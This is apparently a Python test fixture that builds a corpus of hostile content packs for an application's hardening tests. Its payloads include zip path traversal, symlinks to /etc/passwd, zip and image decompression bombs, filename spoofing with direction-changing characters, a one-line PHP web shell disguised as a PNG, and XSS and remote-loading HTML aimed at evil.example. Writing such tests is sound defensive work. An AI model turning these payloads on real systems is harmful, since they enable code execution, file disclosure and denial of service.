"""The hostile-pack corpus: every malicious or broken pack the hardening tests throw at the program, as one table.

Each `Case` is written both as a folder and as a `.safelibpack` zip where both forms can carry it
(a `../` entry name exists only in a zip; a lying zip header only in a zip). `stage` says what the
program must do with it:

| stage    | `pack validate`   | in the program                                                        |
|----------|-------------------|-----------------------------------------------------------------------|
| pack     | exit 1, `message` | the pack is not loaded; the error is shown; every other pack works    |
| guide    | exit 1, `message` | the pack loads without the bad guide (or file); `intact` is readable  |
| render   | exit 1, `message` | the guide is listed; opening it says why it cannot be shown           |
| picture  | exit 1, `message` | the guide opens; the picture is not decoded                           |
| clean    | exit 0            | loads, and the rendered HTML holds nothing remote or executable       |
"""

from __future__ import annotations

import os
import re
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import GUIDE, TINY_PNG

MIB = 1024 * 1024


@dataclass(frozen=True)
class Link:
    """A symbolic link to `target`: a real symlink in a folder, an S_IFLNK entry in a zip."""

    target: str


Files = dict[str, "bytes | Link"]


@dataclass(frozen=True)
class Case:
    """One hostile pack; `files` come on top of a valid manifest and the good guide `intact`."""

    name: str
    stage: str
    message: str = ""  # a regular expression validate's output must match (stages other than clean)
    files: Files = field(default_factory=dict)
    forms: tuple[str, ...] = ("folder", "zip")
    zip_stage: str | None = None  # the stage of the zip form, when it differs
    omit: tuple[str, ...] = ()  # files of the valid base left out
    zip_entries: tuple[tuple[str, bytes], ...] = ()  # raw extra entries, names unchecked (zip only)
    patch_zip: Callable[[Path], None] | None = None  # rewrites the finished zip's bytes

    @property
    def pack_id(self) -> str:
        return f"hostile-{self.name}"

    def stage_of(self, form: str) -> str:
        """What the program must do with this case in this form (see the table above)."""
        return self.zip_stage if form == "zip" and self.zip_stage else self.stage


def manifest(pack_id: str, **overrides: str) -> bytes:
    """A valid pack.toml with some lines replaced (the value is written as given: TOML source)."""
    values = {
        "format": "1",
        "id": f'"{pack_id}"',
        "title": f'"Hostile {pack_id}"',
        "language": '"en"',
        "version": '"1"',
        "publisher": '"tests"',
        "license": '"CC0-1.0"',
        **overrides,
    }
    return "".join(f"{key} = {value}\n" for key, value in values.items()).encode()


def guide(body: str = "Text.", *, title: str = "A guide", category: str = "security", front: str = "") -> bytes:
    """A guide file; `front` adds raw front-matter lines."""
    text = GUIDE.format(title=title, category=category, summary="Summary.", body=body)
    return text.replace("+++\n\n", front + "+++\n\n", 1).encode() if front else text.encode()


def chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with its length and CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_text(count: int) -> bytes:
    """The tiny PNG with `count` zTXt chunks, each inflating 1 KiB to 1 MiB: Qt aborted with bad_alloc on 200 of them."""
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * MIB, 9))
    return TINY_PNG[:33] + text * count + TINY_PNG[33:]


def jpeg_scans(count: int) -> bytes:
    """A progressive JPEG header followed by `count` scans: each scan is a pass over every pixel."""
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, 2048, 2048, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x00\x00" + b"\x00" * 4
    return b"\xff\xd8" + frame + scan * count + b"\xff\xd9"


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` × `height` with almost no pixel data: decoding would allocate it all."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def _lie_about_size(archive: Path) -> None:
    """Say in both zip headers that guides/liar.md unpacks to 100 bytes while its data inflates to 20 MiB."""
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as z:
        info = z.getinfo("guides/liar.md")
    struct.pack_into("<I", data, info.header_offset + 22, 100)
    struct.pack_into("<I", data, _central_entry(data, "guides/liar.md") + 24, 100)
    archive.write_bytes(bytes(data))


def _encrypt_flag(archive: Path) -> None:
    """Mark guides/locked.md as encrypted (flag bit 0) in both headers: zipfile then wants a password."""
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as z:
        info = z.getinfo("guides/locked.md")
    data[info.header_offset + 6] |= 1
    data[_central_entry(data, "guides/locked.md") + 8] |= 1
    archive.write_bytes(bytes(data))


def _central_entry(data: bytearray, name: str) -> int:
    """The offset of `name`'s record in the zip's central directory."""
    central = data.find(b"PK\x01\x02")
    while data[central + 46 : central + 46 + struct.unpack_from("<H", data, central + 28)[0]] != name.encode():
        central = data.find(b"PK\x01\x02", central + 4)
    return central


def _packed_with(method: int) -> Callable[[Path], None]:
    """Add guides/packed.md, 64 MiB of zeros compressed with `method`, whose headers say it unpacks to 100 bytes."""

    def patch(archive: Path) -> None:
        with zipfile.ZipFile(archive, "a") as z:
            z.writestr(
                zipfile.ZipInfo("guides/packed.md", date_time=(2026, 1, 1, 0, 0, 0)),
                guide("\0" * (64 * MIB)),
                compress_type=method,
            )
        data = bytearray(archive.read_bytes())
        with zipfile.ZipFile(archive) as z:
            info = z.getinfo("guides/packed.md")
        struct.pack_into("<I", data, info.header_offset + 22, 100)
        struct.pack_into("<I", data, _central_entry(data, "guides/packed.md") + 24, 100)
        archive.write_bytes(bytes(data))

    return patch


def _claim_entries(archive: Path) -> None:
    """Say in the end record that the central directory holds 1,000,000 entries (zipfile would parse them all)."""
    data = bytearray(archive.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, 65_535, 65_535)
    archive.write_bytes(bytes(data))


def _truncate(archive: Path) -> None:
    archive.write_bytes(archive.read_bytes()[:-40])


NESTED = 100_000
CLEAN_BODIES = {
    "script": "<script>alert(1)</script>\n\n<script src=http://evil.example/x.js></script>",
    "iframe": '<iframe src="http://evil.example/"></iframe> and <object data="http://evil.example/o"></object>',
    "style": "<style>body { background: url(http://evil.example/bg.png) }</style>\n\n"
    '<p style="background:url(http://evil.example/p.png)">styled</p>',
    "handlers": '<img src="x" onerror="alert(1)"> <a href="#" onclick="alert(1)">a</a> <body onload=alert(1)>',
    "remote-image": '![spy](http://evil.example/track.png) <img src="https://evil.example/t.gif"> ![spy2](//evil.example/x.png)',
    "javascript-link": "[click](javascript:alert(1)) [click2](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
    "data-link": "[d](data:text/html;base64,PHNjcmlwdD4=) ![d](data:image/png;base64,iVBORw0KGgo=)",
    "file-link": "[f](file:///etc/passwd) ![f](file:///etc/passwd) ![f](/etc/passwd) ![f](../../../etc/passwd)",
    "reference-links": "[ref][1] and ![img][2] and <http://evil.example/auto> <mailto:x@evil.example>\n\n"
    "[1]: http://evil.example/ref\n[2]: http://evil.example/img.png",
    "escaping-pack-urls": "![p](pack:other/media/x.png) [p](pack:hostile-x/../../etc/passwd) "
    "![m](media/../pack.toml) ![m](media/../../outside.png) [g](guide:../../etc/passwd)",
    "css-url": "<div style=\"background-image: url('http://evil.example/a.png')\">x</div>\n\n"
    '<link rel="stylesheet" href="http://evil.example/s.css">',
    "svg-and-base": '<svg onload="alert(1)"><image href="http://evil.example/i.png"/></svg> <base href="http://evil.example/">',
}

CASES: tuple[Case, ...] = (
    # --- paths that escape the pack -------------------------------------------------------------------------------
    Case(
        "zip-traversal",
        "guide",
        "unsafe entry",
        forms=("zip",),
        zip_entries=(("../escape.md", guide()), ("guides/../../up.md", guide()), ("guides/..\\win.md", guide())),
    ),
    Case(
        "zip-absolute",
        "guide",
        "absolute path",
        forms=("zip",),
        zip_entries=(("/etc/cron.d/evil.md", guide()), ("C:/Windows/evil.md", guide())),
    ),
    Case(
        "zip-control-names",
        "guide",
        "control, line-breaking or invisible character",
        forms=("zip",),
        zip_entries=(
            ("guides/a.md\n0000  10  guides/b.md", guide()),
            ("guides/rlo\u202egnp.md", guide()),
            ("guides/x\u2028.md", guide()),
        ),
    ),
    Case(
        "symlinks-out",
        "guide",
        "symbolic link",
        files={"guides/leak.md": Link("/etc/passwd"), "media/leak.png": Link("/etc/hostname"), "guides/up": Link("/")},
    ),
    # --- archives built to exhaust memory or time -----------------------------------------------------------------
    Case("zip-bomb", "pack", "decompression bomb", forms=("zip",), zip_entries=(("media/bomb.png", b"\0" * (60 * MIB)),)),
    Case(
        "zip-lying-sizes",
        "guide",
        "cannot read archive entry",
        forms=("zip",),
        files={"guides/liar.md": b"a" * (20 * MIB)},
        patch_zip=_lie_about_size,
    ),
    Case("many-entries", "pack", r"the limit is 5,000", files={f"media/{i}.png": TINY_PNG for i in range(6_000)}),
    # Zipped, 50 MiB of text compresses 1000:1 and is refused as a bomb before anything is read.
    Case(
        "huge-guide",
        "guide",
        r"the limit is 1,048,576|decompression bomb",
        files={"guides/huge.md": guide("x" * (50 * MIB))},
        zip_stage="pack",
    ),
    Case(
        "zip-encrypted-entry",
        "guide",
        "cannot read archive entry",
        forms=("zip",),
        files={"guides/locked.md": guide()},
        patch_zip=_encrypt_flag,
    ),
    Case(
        "zip-bzip2-lying", "guide", "only stored and deflate are read", forms=("zip",), patch_zip=_packed_with(zipfile.ZIP_BZIP2)
    ),
    Case("zip-lzma-lying", "guide", "only stored and deflate are read", forms=("zip",), patch_zip=_packed_with(zipfile.ZIP_LZMA)),
    Case("zip-huge-directory", "pack", "says it has 65,535 entries", forms=("zip",), patch_zip=_claim_entries),
    Case("zip-truncated", "pack", "not a readable pack archive", forms=("zip",), patch_zip=_truncate),
    Case("zip-duplicate-entry", "pack", "holds this entry twice", forms=("zip",), zip_entries=(("guides/intact.md", guide()),)),
    # --- text encodings -------------------------------------------------------------------------------------------
    Case("invalid-utf8", "guide", "not valid UTF-8", files={"guides/latin1.md": b"+++\ntitle = 'caf\xe9'\n+++\n"}),
    Case("utf16-bom", "guide", "UTF-16", files={"guides/wide.md": guide().decode().encode("utf-16")}),
    Case("nul-bytes", "guide", "NUL character", files={"guides/nul.md": guide("before\0after")}),
    Case("manifest-utf16", "pack", "UTF-16", files={"pack.toml": manifest("hostile-manifest-utf16").decode().encode("utf-16")}),
    # --- manifests and front matter -------------------------------------------------------------------------------
    Case("manifest-malformed", "pack", "invalid TOML", files={"pack.toml": b'format = 1\nid = "x\ntitle = [\n'}),
    Case("manifest-missing", "pack", "pack.toml is missing", omit=("pack.toml",)),
    Case("manifest-huge", "pack", "the limit is 65,536", files={"pack.toml": manifest("hostile-manifest-huge") + b"#" * 70_000}),
    Case(
        "manifest-wrong-types",
        "pack",
        "'title' must be a string",
        files={"pack.toml": manifest("hostile-manifest-wrong-types", title="5", format='"one"', language="[1]")},
    ),
    Case(
        "manifest-spoofed-title",
        "pack",
        "invisible or direction-changing",
        files={"pack.toml": manifest("hostile-manifest-spoofed-title", title='"Official\u202egnp.exe"')},
    ),
    # Python refuses to convert integers of over 4,300 digits: tomllib raised ValueError, and every command stopped.
    Case(
        "manifest-long-integer",
        "pack",
        "more than 4,300 digits",
        files={"pack.toml": manifest("hostile-manifest-long-integer", version="1" * 4_301)},
    ),
    Case(
        "front-matter-long-integer",
        "guide",
        "more than 4,300 digits",
        files={"guides/long.md": guide(front=f"n = {'9' * 4_301}\n")},
    ),
    Case("front-matter-malformed", "guide", "invalid TOML", files={"guides/bad.md": b"+++\ntitle = \n+++\nbody"}),
    Case("front-matter-unclosed", "guide", "never closed", files={"guides/open.md": b"+++\ntitle = 'x'\n"}),
    Case("front-matter-deep", "guide", "invalid TOML", files={"guides/deep.md": b"+++\nx = " + b"[" * NESTED + b"\n+++\n"}),
    Case(
        "front-matter-wrong-types",
        "guide",
        "'updated' must be a date",
        files={"guides/types.md": guide(front="tags = 'one'\n").replace(b"updated = 2026-11-01", b'updated = "soon"')},
    ),
    Case("unknown-category", "guide", "must be one of security", files={"guides/cat.md": guide(category="weapons")}),
    Case(
        "spoofed-guide-title",
        "guide",
        "invisible or direction-changing",
        files={"guides/rlo.md": guide(title="Safe\u202egnp.exe")},
    ),
    Case(
        "manifest-id-trailing-newline",
        "pack",
        "must be lower-case letters",
        files={"pack.toml": manifest("hostile-manifest-id-trailing-newline", id='"hostile-manifest-id-trailing-newline\\n"')},
    ),
    Case(
        "hidden-characters",
        "guide",
        "invisible or direction-changing",
        files={
            "guides/alm.md": guide(title="Arabic letter mark \u061c here"),
            "guides/c1.md": guide(title="A C1 control \u0085 here"),
            "guides/separator.md": guide().replace(b"Summary.", "Line\u2028separator.".encode()),
            "guides/tags.md": guide(front="tags = ['tag\U000e0041\U000e0042']\n"),
            "guides/sources.md": guide().replace(b'"Test source"', '"Source \u202e"'.encode()),
        },
    ),
    Case("zero-width-title", "guide", "invisible or direction-changing", files={"guides/zw.md": guide(title="A\u200bguide")}),
    Case("bad-guide-file-name", "guide", "not a valid id", files={"guides/Evil_Name.md": guide()}),
    # --- Markdown built to exhaust the renderer -------------------------------------------------------------------
    Case("nested-quotes", "render", r"nested \d+ levels deep", files={"guides/quotes.md": guide(">" * NESTED + " deep")}),
    Case(
        "nested-lists",
        "render",
        r"nested \d+ levels deep",
        files={"guides/lists.md": guide("\n".join("  " * i + "- item" for i in range(200)))},
    ),
    Case(
        "nested-emphasis",
        "render",
        "too much to render safely",
        files={"guides/emph.md": guide("_" * NESTED + "x" + "_" * NESTED)},
    ),
    Case(
        "nested-brackets",
        "render",
        "too much to render safely",
        files={"guides/brackets.md": guide("[" * NESTED + "x" + "]" * NESTED)},
    ),
    # Also made loading (not just rendering) quadratic: the link check took minutes on a 1 MiB guide.
    Case("image-openers", "render", "too much to render safely", files={"guides/bang.md": guide("![" * 400_000)}),
    # Inside the size limit but slow before the work was counted (issue #15): seconds to minutes each.
    Case(
        "wide-table",
        "render",
        r"102,204 table cells",
        files={"guides/table.md": guide("|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "|\n" * 1_000)},
    ),
    Case("escapes", "render", r"80,000 inline marks in one paragraph", files={"guides/escapes.md": guide("\\-" * 80_000)}),
    Case(
        "links-in-one-paragraph",
        "render",
        r"1,999 links or pictures in one paragraph",
        files={"guides/links.md": guide(" ".join(["[a](guide:intact)"] * 1_999))},
    ),
    Case(
        "many-links",
        "render",
        r"links or pictures in all",
        files={"guides/links.md": guide("\n\n".join(["[a](guide:intact)"] * 15_000))},
    ),
    Case("many-paragraphs", "render", r"300,00\d paragraphs", files={"guides/paras.md": guide("a\n\n" * 300_000)}),
    Case("setext-headings", "render", r"100,00\d paragraphs", files={"guides/setext.md": guide("a\n-\n" * 100_000)}),
    # Inside every Markdown bound but too heavy for Qt to build on the window's thread while panic waits (1–3 s before).
    Case(
        "heavy-table",
        "render",
        r"too much to show at once: 42\d table cells",
        files={"guides/table.md": guide("|a|b|c|d|e|f|\n|-|-|-|-|-|-|\n" + "|cell|cell|cell|cell|cell|cell|\n" * 70)},
    ),
    Case(
        "heavy-headings",
        "render",
        r"too much to show at once: .*\b2,00\d headings",
        files={"guides/headings.md": guide("a heading\n-\n" * 2_000)},
    ),
    # --- pictures ---------------------------------------------------------------------------------------------------
    Case(
        "picture-not-a-picture",
        "picture",
        "not a PNG, JPEG or WebP picture",
        files={"media/fake.png": b"<?php system($_GET['c']); ?>", "guides/pic.md": guide("![fake](media/fake.png)")},
    ),
    Case(
        "picture-huge-pixels",
        "picture",
        r"100,000 × 100,000 pixels",
        files={"media/huge.png": png_header(100_000, 100_000), "guides/pic.md": guide("![huge](media/huge.png)")},
    ),
    Case(
        "picture-repeated-scans",
        "picture",
        r"5,000 JPEG scans",
        files={"media/scans.jpg": jpeg_scans(5_000), "guides/pic.md": guide("![scans](media/scans.jpg)")},
    ),
    Case(
        "picture-metadata-chunks",
        "picture",
        r"200 metadata chunks",
        files={"media/text.png": png_with_text(200), "guides/pic.md": guide("![text](media/text.png)")},
    ),
    Case(
        "pictures-too-many-pixels-in-one-guide",
        "picture",
        r"pictures decode to 201,326,592 pixels together",
        files={
            **{f"media/p{i}.png": png_header(4096, 4096) for i in range(12)},
            "guides/pic.md": guide(" ".join(f"![p](media/p{i}.png)" for i in range(12))),
        },
    ),
    # --- valid packs whose guides must render safely ----------------------------------------------------------------
    *(Case(f"html-{name}", "clean", files={"guides/html.md": guide(body)}) for name, body in CLEAN_BODIES.items()),
)


def _base(case: Case) -> dict[str, bytes | Link]:
    files: dict[str, bytes | Link] = {
        "pack.toml": manifest(case.pack_id),
        "guides/intact.md": guide("The good guide.", title="Intact"),
    }
    files.update(case.files)
    return {rel: data for rel, data in files.items() if rel not in case.omit}


def write_folder(case: Case, root: Path) -> Path:
    """The case as a pack folder under `root`."""
    folder = root / case.pack_id
    for rel, data in _base(case).items():
        target = folder.joinpath(*rel.split("/"))
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Link):
            os.symlink(data.target, target)
        else:
            target.write_bytes(data)
    return folder


def write_zip(case: Case, root: Path) -> Path:
    """The case as a `.safelibpack` under `root`, raw entries included and the patch applied."""
    root.mkdir(parents=True, exist_ok=True)
    archive = root / f"{case.pack_id}.safelibpack"
    with warnings.catch_warnings(), zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        warnings.simplefilter("ignore")  # "Duplicate name": on purpose
        for rel, data in [*_base(case).items(), *case.zip_entries]:
            info = zipfile.ZipInfo(rel, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if isinstance(data, Link):
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                data = data.target.encode()
            z.writestr(info, data)
    if case.patch_zip is not None:
        case.patch_zip(archive)
    return archive


def build(root: Path) -> dict[tuple[str, str], Path]:
    """Write every case in every form it has: {(case name, form): location}."""
    made: dict[tuple[str, str], Path] = {}
    for case in CASES:
        if "folder" in case.forms:
            made[case.name, "folder"] = write_folder(case, root / "folder")
        if "zip" in case.forms:
            made[case.name, "zip"] = write_zip(case, root / "zip")
    return made


def matches(case: Case, text: str) -> bool:
    """Whether validate's or the loader's messages say what the case expects."""
    return re.search(case.message, text) is not None
